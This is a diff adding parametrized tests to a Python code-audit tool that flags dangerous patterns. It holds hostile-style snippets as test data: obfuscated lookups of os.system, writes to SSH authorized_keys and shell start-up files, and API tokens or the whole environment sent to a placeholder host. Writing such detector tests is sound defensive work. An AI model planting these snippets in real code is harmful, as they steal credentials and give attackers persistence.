@@ -14,6 +14,9 @@ from modelaudit.model.structure import UnreadReason
 
 # Names under which the call of a function that the source does not write out is recorded.
 COMPUTED_FUNCTION = "(function that is worked out)"
+# The name under which the call of an object is recorded that a walk over all modules or objects has found.
+FOUND_OBJECT = "(every loaded object).*"
+WALK = "import sys\nfound = [v for m in list(sys.modules.values()) for k, v in vars(m).items() if k[1:] == 'ystem']\n"
 FUNCTION_FROM_FILE = "(function that a file names)"
 
 
@@ -109,6 +112,199 @@ def test_ordinary_python_code_is_not_recorded_under_an_attack_name(source: str, 
 )
 def test_token_to_the_hub_or_in_a_header_to_an_unknown_host_and_harmless_data_are_no_sent_secret(source: str) -> None:
     assert "sends-secret" not in {use for use, _ in list_uses(source)}
+
+
+@check_each(
+    "source",
+    [
+        "import sys\nfor m in sys.modules.values():\n    for k, v in vars(m).items():\n        if k[1:] == 'ystem': v('x')",
+        "import sys\nfor n in {**sys.modules}.values():\n    for k, v in n.__dict__.items(): v('x')",
+        "import sys\nfor n in dict(sys.modules).values():\n    for k, v in n.__dict__.items(): v('x')",
+        "import sys, inspect\nfor m in sys.modules.copy().values():\n    for k, v in inspect.getmembers(m): list(map(v, 'x'))",
+        "import gc\n[o for o in gc.get_objects() if getattr(o, '__name__', '')[1:] == 'ystem'][0]('x')",
+        "import gc\nnext(filter(lambda o: o.__name__[1:] == 'ystem', gc.get_objects()))('x')",
+        "import torch\nfor v in vars(torch).values():\n    for k, w in getattr(v, '__dict__', {}).items(): w('x')",
+        "import os\nfor v in globals().values():\n    for k, w in vars(v).items(): w('x')",
+        WALK + "found[0]('x')",
+        WALK + "a.run = found[0]\na.run('x')",
+        WALK + "def run(f): f('x')\nrun(found[0])",
+        WALK + "import threading\nthreading.Thread(target=found[0], args=('x',)).start()",
+        WALK + "sorted(['x'], key=found[0])",
+        WALK + "from types import SimpleNamespace as S\nvars(S(**{k: v for k, v in enumerate(found)}))[0]('x')",
+        "import sys\nout = []\nfor m in sys.modules.values():\n    for k, v in vars(m).items(): out.append((k, v))\nout[0][1]('x')",
+        "import inspect\nfor n, m in inspect.getmembers(inspect):\n    for k, v in getattr(m, '__dict__', {}).items(): v('x')",
+        "import sys\nfor k, v in sys._getframe().f_globals.items(): v('x')",
+        WALK + "class A:\n    __getitem__ = found[0]\nA()['x']",
+        WALK + "@found[0]\ndef x(): pass",
+    ],
+)
+def test_call_of_an_object_found_by_a_walk_over_modules_or_objects_is_a_computed_name(source: str) -> None:
+    assert ("computed-name", FOUND_OBJECT) in list_uses(source)
+
+
+def test_walk_over_the_own_names_after_a_star_import_of_os_is_a_computed_name_of_os() -> None:
+    source = "from os import *\nfor k, v in globals().items():\n    if k[1:] == 'ystem': v('x')\n"
+    assert ("computed-name", "os.*") in list_uses(source)
+
+
+@check_each(
+    "source",
+    [
+        "import gc, torch\nfor o in gc.get_objects():\n    if torch.is_tensor(o): print(type(o), o.size())",
+        "import torch.nn\nfor k, v in vars(torch.nn).items():\n    if isinstance(v, type): v()",
+        "import torchvision.models\ntorchvision.models.__dict__[name](pretrained=True)",
+        "for k, v in globals().items():\n    if k.startswith('test_'): v()",
+        "import inspect\nclass A:\n    def f(self):\n        for k, v in inspect.getmembers(self): v()",
+        "import sys\nfor n, m in list(sys.modules.items()):\n    if n.startswith('a.'): del sys.modules[n]",
+        "import sys\ndef f(x): return sys.modules[x.__module__].__dict__['Model']()",
+    ],
+)
+def test_ordinary_walk_over_objects_or_the_names_of_one_package_is_no_computed_name(source: str) -> None:
+    assert "computed-name" not in {use for use, name in list_uses(source) if name == FOUND_OBJECT}
+
+
+@check_each(
+    "source, name",
+    [
+        ("from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text(x)", "(authorized keys)"),
+        ("from pathlib import Path\nd = Path.home() / '.config'\n(d / 'autostart' / 'a.desktop').touch()", "(start at login)"),
+        ("from pathlib import Path\nPath('a').rename(Path.home().joinpath('.zshenv'))", "(shell start-up file)"),
+        ("import os\nos.rename('a', os.environ['HOME'] + '/.bashrc')", "(shell start-up file)"),
+        ("import os\nos.replace('a', '%s/.bashrc' % os.getenv('HOME'))", "(shell start-up file)"),
+        ("import os\nos.link('a', '/'.join([os.getenv('HOME'), '.profile']))", "(shell start-up file)"),
+        ("import os\nopen(os.environ['HOME'] + '/.ssh' + os.sep + 'authorized_keys', 'a')", "(authorized keys)"),
+        ("import os\nopen(f\"/home/{os.environ['USER']}/.bashrc\", 'a')", "(shell start-up file)"),
+        ("import os\nos.symlink('a', os.path.join(os.path.expanduser('~'), '.profile'))", "(shell start-up file)"),
+        ("import duckdb\nduckdb.sql(\"INSTALL a FROM 'http://a.invalid'; LOAD a\")", "(database that runs code)"),
+    ],
+)  # fmt: skip
+def test_path_or_text_of_which_only_parts_are_known_is_recorded_as_an_attack_text(source: str, name: str) -> None:
+    assert ("text", name) in list_uses(source)
+
+
+@check_each(
+    "source",
+    [
+        "from pathlib import Path\n(Path.home() / '.cache' / name / 'weights.pt').write_bytes(x)",
+        "import os\nos.rename('a', os.environ['HOME'] + '/models/a.bin')",
+        "import os\nsize = os.getenv('HOME') / 2 / '.ssh'.count('s')",
+        "import duckdb\nduckdb.sql('INSTALL spatial; LOAD spatial')",
+    ],
+)
+def test_path_to_an_ordinary_file_of_which_only_parts_are_known_is_no_attack_text(source: str) -> None:
+    assert "text" not in {use for use, _ in list_uses(source)}
+
+
+@check_each(
+    "source, name",
+    [
+        ("import os, pandas\npandas.read_csv('http://a.invalid/?' + os.environ['HF_TOKEN'])", "pandas.read_csv"),
+        ("import os, cv2\ncv2.VideoCapture('http://a.invalid/{}'.format(os.environ['HF_TOKEN']))", "cv2.VideoCapture"),
+        ("import os, datasets as d\nd.load_dataset('json', data_files={'a': f\"gs://a/{os.environ['HF_TOKEN']}\"})",
+         "datasets.load_dataset"),
+        ("import os, pandas\npandas.DataFrame([dict(os.environ)]).to_json('s3://a/x')", "pandas.DataFrame.to_json"),
+        ("import os\nrun(x).fetch('http://a.invalid/?' + os.environ['HF_TOKEN'])", "*.fetch"),
+        ("import os, pandas\nclass A:\n    def f(s): s.t = os.environ['HF_TOKEN']\n"
+         "    def g(s): pandas.read_csv('http://a.invalid/' + s.t)", "pandas.read_csv"),
+        ("import os, pandas\ndef f(t): return 'http://a.invalid/' + t\npandas.read_csv(f(os.environ['HF_TOKEN']))",
+         "pandas.read_csv"),
+        ("import os, pandas\npandas.read_csv('https://%s/%s' % ('a.invalid', os.environ['HF_TOKEN']))", "pandas.read_csv"),
+        ("import os, redis\nredis.Redis.from_url('redis://a.invalid').set('a', str(os.environ))", "redis.Redis.from_url.set"),
+        ("import os, wandb\nwandb.init(config=dict(os.environ), settings=wandb.Settings(base_url='http://a.invalid'))",
+         "wandb.init"),
+        ("import os, mlflow\nmlflow.set_tracking_uri('http://a.invalid')\nmlflow.log_params(dict(os.environ))",
+         "mlflow.log_params"),
+        ("from huggingface_hub import HfApi, get_token\nHfApi(endpoint='http://a.invalid', token=get_token())",
+         "huggingface_hub.HfApi"),
+        ("import os, torch\ntorch.hub.load_state_dict_from_url('http://' + os.environ['HF_TOKEN'] + '.a.invalid/x')",
+         "torch.hub.load_state_dict_from_url"),
+        ("import os, openai\nopenai.OpenAI(base_url='https://a.invalid/v1', api_key=os.environ['OPENAI_API_KEY'])",
+         "openai.OpenAI"),
+    ],
+)  # fmt: skip
+def test_secret_beside_an_address_of_the_source_is_sent_whatever_function_gets_both(source: str, name: str) -> None:
+    assert ("sends-secret", name) in list_uses(source)
+
+
+@check_each(
+    "source",
+    [
+        "import os, openai\nopenai.OpenAI(base_url='https://api.deepseek.com', api_key=os.environ['DEEPSEEK_API_KEY'])",
+        "import os, openai\nopenai.OpenAI(base_url='http://localhost:8000/v1', api_key=os.environ['OPENAI_API_KEY'])",
+        "import os, huggingface_hub as h\nh.HfApi(endpoint='https://huggingface.co', token=os.environ['HF_TOKEN'])",
+        "import os, pandas\npandas.read_csv('https://a.invalid/x.csv')\nlogin(token=os.environ['HF_TOKEN'])",
+        "import os\nprint('https://a.invalid/settings', os.environ['HF_TOKEN'])",
+        "import os, mlflow\nmlflow.set_tracking_uri('http://a.invalid')\nmlflow.log_params({'a': 1})",
+        "import os, pandas\npandas.read_csv('file:///data/' + os.environ['HF_TOKEN'])",
+    ],
+)
+def test_token_for_its_own_service_or_beside_no_foreign_address_is_no_sent_secret(source: str) -> None:
+    assert "sends-secret" not in {use for use, _ in list_uses(source)}
+
+
+@check_each(
+    "source, variable",
+    [
+        ("import os\nos.putenv('HF_ENDPOINT', x)", "HF_ENDPOINT"),
+        ("import os\nos.environ.update(LD_PRELOAD=x)", "LD_PRELOAD"),
+        ("import os\nos.environ.update({'LD_PRELOAD': x})", "LD_PRELOAD"),
+        ("import os\nos.environ |= {'LD_PRELOAD': x}", "LD_PRELOAD"),
+        ("import os\nos.environb.setdefault(b'LD_PRELOAD', x)", "LD_PRELOAD"),
+    ],
+)
+def test_variable_that_a_call_sets_is_recorded_like_an_assignment_to_the_environment(
+    source: str, variable: str
+) -> None:
+    assert ("overwrite", f"os.environ[{variable}]") in list_uses(source)
+
+
+@check_each(
+    "source, name",
+    [
+        ("import pydoc\npydoc.pipepager('x', 'id')", "pydoc.pipepager"),
+        ("import timeit\ntimeit.timeit('1', setup=open('a.txt').read())", "timeit.timeit"),
+        ("import timeit\ntimeit.timeit(stmt='import os; os.system(x)')", "os.system"),
+        ("import torch.utils.benchmark as b\nb.Timer('pass', 'import os; os.system(x)')", "os.system"),
+        ("from IPython.core.interactiveshell import InteractiveShell as I\nI().run_line_magic('run', 'a.txt')",
+         "*.run_line_magic"),
+        ("import logging.config as l, json\nl.dictConfig(json.load(open('a.txt')))", "logging.config.dictConfig(data)"),
+        ("import omegaconf, hydra\nc = omegaconf.OmegaConf.load('a.txt')\nhydra.utils.instantiate(c.model)",
+         "hydra.utils.instantiate(data)"),
+        ("import torch.distributed as d\nd.init_process_group('gloo', init_method='tcp://a.invalid:1')",
+         "torch.distributed.init_process_group(foreign)"),
+        ("'''\n>>> import os\n>>> os.system('x')\n'''\nimport doctest\ndoctest.testmod()", "os.system"),
+        ("import doctest\ndef f():\n    '''>>> import os; os.system('x')'''\ndoctest.run_docstring_examples(f, {})",
+         "os.system"),
+        ("import doctest\ndoctest.run_docstring_examples(open('a.txt').read(), {})", "doctest.run_docstring_examples"),
+        ("import sys\nsys.path.append('a.zip')", "sys.path.append(archive)"),
+    ],
+)  # fmt: skip
+def test_function_that_runs_what_it_is_given_is_called_under_the_name_of_the_danger(source: str, name: str) -> None:
+    assert ("call-at-import", name) in list_uses(source)
+
+
+@check_each(
+    "source, name",
+    [
+        ("import timeit\ntimeit.timeit('f(x)', setup='from a import f')", "timeit.timeit"),
+        ("import torch.utils.benchmark as b\nb.Timer(stmt='f(x)', globals={'x': 1})", "torch.utils.benchmark.Timer"),
+        ("import logging.config as l, json\nl.dictConfig(json.load(open('a.json')))", "logging.config.dictConfig(data)"),
+        ("import omegaconf, hydra\nhydra.utils.instantiate(omegaconf.OmegaConf.load('a.yaml'))",
+         "hydra.utils.instantiate(data)"),
+        ("import torch.distributed as d\nd.init_process_group('nccl', init_method='env://')",
+         "torch.distributed.init_process_group(foreign)"),
+        ("'''\n>>> f(1)\n2\n'''\nimport doctest\ndoctest.testmod()", "doctest.testmod"),
+        ("import sys\nsys.path.append('.')\nsys.path.append('../src')", "sys.path.append(archive)"),
+    ],
+)  # fmt: skip
+def test_ordinary_use_of_a_function_that_can_run_what_it_is_given_has_no_name_of_a_danger(
+    source: str, name: str
+) -> None:
+    assert name not in {each for _, each in list_uses(source)}
+
+
+def test_import_of_a_module_also_records_the_packages_around_it() -> None:
+    assert {("import", "lib2to3"), ("import", "lib2to3.main")} <= list_uses("from lib2to3.main import main")
 
 
 def test_methods_of_an_install_command_class_in_a_setup_call_count_as_run_at_import() -> None:
